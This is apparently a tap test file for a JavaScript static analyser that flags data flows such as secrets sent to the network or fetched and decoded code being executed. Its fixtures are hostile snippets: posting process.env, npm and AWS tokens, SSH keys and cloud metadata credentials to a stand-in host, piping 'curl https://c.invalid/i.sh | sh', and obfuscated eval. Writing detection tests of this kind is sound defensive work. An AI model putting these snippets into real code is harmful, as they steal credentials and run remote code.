import t from 'tap'
import type { CodeSummary } from '../../src/analysis/code.ts'
import { summariseJavascript } from '../../src/analysis/javascript/summarise.ts'

/** `source kind line -> sink kind line`; in brackets where some function must be called first. */
function flowsOf(summary: CodeSummary): string[] {
  return summary.flows.map(({ source, sink, viaFile }) => {
    const flow = `${source.kind}${source.name === undefined ? '' : `(${source.name})`} ${source.line} -> ${sink.kind} ${sink.line}${viaFile ? ' by file' : ''}`
    return sink.deferred ? `(${flow})` : flow
  })
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')

const FLOWS: readonly { name: string; code: string; flows: readonly string[]; path?: string }[] = [
  {
    name: 'a secret behind a dozen other sources',
    code: `let all = ''
${'all += atob(a)\n'.repeat(13)}all += JSON.stringify(process.env)
fetch('https://c.invalid/', { method: 'POST', body: all })`,
    flows: ['env 15 -> network 16'],
  },
  {
    name: 'the whole environment, filtered by name, posted by fetch',
    code: `const found = {}
for (const [k, v] of Object.entries(process.env)) if (/KEY|TOKEN/.test(k)) found[k] = v
fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(found) })`,
    flows: ['env 2 -> network 3'],
  },
  {
    name: 'keys first, values by key, in base64, written into a request',
    code: `const https = require('node:https')
const names = Object.keys(process.env).filter((k) => k.includes('SECRET'))
const data = names.map((k) => k + '=' + process.env[k]).join('\\n')
const request = https.request({ hostname: 'c.invalid', method: 'POST' })
request.write(Buffer.from(data).toString('base64'))
request.end()`,
    flows: ['env 3 -> network 5', 'env 2 -> network 5'],
  },
  {
    name: 'a spread copy beside other fields, through a class and its field',
    code: `import axios from 'axios'
class Report {
  constructor(data) { this.data = data }
  send() { return axios.post('https://c.invalid/', this.data) }
}
new Report({ ...process.env, at: Date.now() }).send()`,
    flows: ['env 6 -> network 4'],
  },
  {
    name: 'through an alias of process, a computed member and globalThis',
    code: `const p = globalThis['pro' + 'cess']
const all = p['e' + 'nv']
globalThis['fe' + 'tch']('https://c.invalid/?' + new URLSearchParams(all))`,
    flows: ['env 2 -> network 3'],
  },
  {
    name: 'a secret file below the home folder, in a promise chain',
    code: `import { readFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
readFile(path.join(os.homedir(), '.npmrc'), 'utf8').then((text) => fetch('https://c.invalid/', { method: 'POST', body: text }))`,
    flows: ['secret-file 4 -> network 4'],
  },
  {
    name: 'secret files from a list, read by callback',
    code: `const fs = require('fs'), http = require('http')
const files = ['.ssh/id_rsa', '.aws/credentials']
for (const f of files) fs.readFile(process.env.HOME + '/' + f, (error, data) => {
  const r = http.request('http://c.invalid/', { method: 'POST' })
  r.end(data)
})`,
    flows: ['secret-file 3 -> network 5'],
  },
  {
    name: 'a named token, in a header',
    code: `fetch('https://c.invalid/', { headers: { 'x-id': process.env.NPM_TOKEN } })`,
    flows: ['env(NPM_TOKEN) 1 -> network 1'],
  },
  {
    name: 'a token in the text of a command that sends it',
    code: `const { execSync: run } = require('child_process')
run(\`curl -d "\${process.env.AWS_SECRET_ACCESS_KEY}" https://c.invalid\`)`,
    flows: ['env(AWS_SECRET_ACCESS_KEY) 2 -> network 2'],
  },
  {
    name: 'the host name, looked up',
    code: `require('dns').lookup(require('os').hostname() + '.c.invalid', () => {})`,
    flows: ['host-info 1 -> network 1'],
  },
  {
    name: 'fetched text, collected by events, evaluated',
    code: `require('https').get('https://c.invalid/x', (res) => {
  let body = ''
  res.on('data', (chunk) => { body += chunk })
  res.on('end', () => { (0, eval)(body) })
})`,
    flows: ['remote-content 1 -> dynamic-code 4'],
  },
  {
    name: 'fetched text by await, compiled by new Function',
    code: `async function main() {
  const text = await (await fetch('https://c.invalid/x')).text()
  new Function('require', text)(require)
}
main()`,
    flows: ['remote-content 2 -> dynamic-code 3'],
  },
  {
    name: 'a download that is written and started',
    code: `const fs = require('fs'), cp = require('child_process')
const target = require('os').tmpdir() + '/x.sh'
fetch('http://203.0.113.7/x').then((r) => r.text()).then((text) => {
  fs.writeFileSync(target, text)
  cp.spawn('sh', [target], { detached: true })
})`,
    flows: ['remote-content 3 -> filesystem-write 4', 'remote-content 3 -> process 5 by file'],
  },
  {
    name: 'base64 that is run as code',
    code: `eval(Buffer.from('${base64('console.log(1)')}', 'base64').toString())`,
    flows: ['decoded-text 1 -> dynamic-code 1'],
  },
  {
    name: 'Function by way of constructor',
    code: `const code = atob('${base64('1')}')
;[].constructor.constructor(code)()`,
    flows: ['decoded-text 1 -> dynamic-code 2'],
  },
  {
    name: 'Function by way of a method',
    code: `[]['filter']['constructor'](atob('${base64('1')}'))()`,
    flows: ['decoded-text 1 -> dynamic-code 1'],
  },
  {
    name: 'the environment that a command prints',
    code: `const all = require('child_process').execSync('env').toString()
fetch('https://c.invalid/', { method: 'POST', body: all })`,
    flows: ['env 1 -> network 2'],
  },
  {
    name: 'a token that a command prints',
    code: `const token = require('child_process').execSync('gh auth token').toString()
fetch('https://c.invalid/', { method: 'POST', body: token })`,
    flows: ['secret-file 1 -> network 2'],
  },
  {
    name: 'the credentials that a cloud gives to its machine',
    code: `fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').then((r) => r.text()).then((text) => {
  fetch('https://c.invalid/', { method: 'POST', body: text })
})`,
    flows: ['secret-file 1 -> network 2'],
  },
  {
    name: 'what the cloud gave, sent back to the cloud, is none',
    code: `const token = await (await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT' })).text()
await fetch('http://169.254.169.254/latest/meta-data/', { headers: { 'x-aws-ec2-metadata-token': token } })`,
    flows: [],
  },
  {
    name: 'a secret file that is copied before it is read',
    code: `const fs = require('fs')
fs.copyFileSync(process.env.HOME + '/.npmrc', '/tmp/n.txt')
fetch('https://c.invalid/', { method: 'POST', body: fs.readFileSync('/tmp/n.txt') })`,
    flows: ['secret-file 2 -> network 3'],
  },
  {
    name: 'the environment, put into a file that a command sends',
    code: `require('fs').writeFileSync('/tmp/e.json', JSON.stringify(process.env))
require('child_process').execSync('curl -F file=@/tmp/e.json https://c.invalid/')`,
    flows: ['env 1 -> network 2'],
  },
  {
    name: 'a digit by its code, run as code',
    code: `eval(String.fromCharCode(49))`,
    flows: ['decoded-text 1 -> dynamic-code 1'],
  },
  {
    name: 'letters by codes of which only one is known',
    code: `function text(n) { let made = ''; for (let i = 0; i < 9; i += 1) { let code = 32; code += n; made += String.fromCharCode(code) } return made }
eval(text(65))`,
    flows: ['decoded-text 1 -> dynamic-code 2'],
  },
  {
    name: 'a space by its code hides nothing',
    code: `eval('1' + String.fromCharCode(32) + '+ 1')`,
    flows: [],
  },
  {
    name: 'an object of the same class, made of decoded text, runs nothing',
    code: `exports.copy = (event) => new event.constructor(atob(event.type))`,
    flows: [],
  },
  {
    name: 'a module whose name is decoded',
    code: `const cp = require(Buffer.from('${base64('child_process')}', 'base64').toString())
cp.exec('curl https://c.invalid/i.sh | sh')`,
    flows: ['remote-content 2 -> process 2'],
  },
  {
    name: 'in a function that nobody here calls',
    code: `exports.report = (url) => fetch(url, { method: 'POST', body: JSON.stringify(process.env) })`,
    flows: ['(env 1 -> network 1)'],
  },
  {
    name: 'by a wrapper that is called with require',
    code: `function post(client, data) { client.request('https://c.invalid/').end(data) }
post(require('https'), JSON.stringify(process.env))`,
    flows: ['env 2 -> network 1'],
  },
  {
    name: 'in TypeScript, by a promise that is made by hand',
    path: 'a.ts',
    code: `import * as fs from 'fs'
const read = (): Promise<string> => new Promise((resolve) => fs.readFile('.env', 'utf8', (e, d) => resolve(d as string)))
read().then((body: string) => fetch('https://c.invalid/', { method: 'POST', body }))`,
    flows: ['secret-file 2 -> network 3'],
  },
  {
    name: 'configuration of a request by single variables is none',
    code: `const https = require('https')
const proxy = process.env.HTTPS_PROXY || process.env.npm_config_https_proxy
https.get({ host: process.env.MIRROR_HOST, agent: makeAgent(proxy), timeout: Number(process.env['TIME' + 'OUT']) })`,
    flows: [],
  },
  {
    name: 'the environment handed to a child process is none',
    code: `require('child_process').spawn('make', ['all'], { env: { ...process.env, CI: '1' } })`,
    flows: [],
  },
  {
    name: 'one variable taken from a copy of the environment is none',
    code: `const env = Object.assign({}, process.env)
fetch(env.API_URL)
const { HTTP_PROXY, NODE_ENV } = env
fetch('https://a.invalid/' + NODE_ENV + HTTP_PROXY)`,
    flows: [],
  },
  {
    name: 'the platform in a download address is none',
    code: `const os = require('os')
fetch('https://a.invalid/' + os.platform() + '-' + process.arch)`,
    flows: [],
  },
  {
    name: 'the global object by Function is none',
    code: `var root = Function('return this')()`,
    flows: [],
  },
]

const FETCHES = 'curl -s https://c.invalid/i.sh | sh'

t.test('what starts a command', async (t) => {
  for (const start of [
    `require('child_process').spawn('curl', ['-s', 'https://c.invalid/i.sh', '|', 'sh'], { shell: true })`,
    `require('node-cmd').runSync('${FETCHES}')`,
    `require('sudo-prompt').exec('${FETCHES}')`,
    `import run from 'nano-spawn'; run('sh', ['-c', '${FETCHES}'])`,
    `import { $ } from 'execa'; $({ shell: true })\`${FETCHES}\``,
    `import 'zx/globals'; await $\`${FETCHES}\``,
    `await Bun.$\`${FETCHES}\``,
    `Bun.spawn(['sh', '-c', '${FETCHES}'])`,
    `Bun.spawn({ cmd: ['sh', '-c', '${FETCHES}'] })`,
    `new Deno.Command('sh', { args: ['-c', '${FETCHES}'] })`,
    `process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', '${FETCHES}'] })`,
  ])
    t.same(flowsOf(summariseJavascript('a.mjs', start)), ['remote-content 1 -> process 1'], start)
  for (const other of [
    `require('child_process').spawn('curl', ['-s', 'https://c.invalid/i.sh', '|', 'sh'])`,
    `const $ = (strings) => strings.raw[0]; $\`${FETCHES}\``,
    `$('${FETCHES}')`,
    `new Worker('./w.js', { name: '${FETCHES}' })`,
  ])
    t.same(flowsOf(summariseJavascript('a.mjs', other)), [], other)
})

t.test('what starts a command, though its module or its receiver is not known', async (t) => {
  for (const start of [
    `const m = Object.fromEntries([['a', 'child_'], ['b', 'process']]); require(m.a + m.b).exec('${FETCHES}')`,
    `require(process.argv[2]).execSync('${FETCHES}')`,
    `import(location.hash).then((m) => m.exec('${FETCHES}'))`,
    `new Proxy({}, { get: (_, name) => require(name) }).child_process.exec('${FETCHES}')`,
  ])
    t.same(flowsOf(summariseJavascript('a.mjs', start)), ['remote-content 1 -> process 1'], start)
  for (const other of [
    `require(process.argv[2]).get('${FETCHES}')`,
    `/curl/.exec('${FETCHES}')`,
    `exports.run = (plugin) => plugin.exec('git status')`,
  ])
    t.same(flowsOf(summariseJavascript('a.mjs', other)), [], other)
  const made = `Reflect.construct(Function, [atob('${base64('fetch(x)')}')])()`
  t.same(flowsOf(summariseJavascript('a.js', made)), ['decoded-text 1 -> dynamic-code 1'], made)
})

t.test('data flows', async (t) => {
  for (const { name, code, flows, path = 'a.js' } of FLOWS) {
    t.same(flowsOf(summariseJavascript(path, code)).toSorted(), flows.toSorted(), name)
  }
})
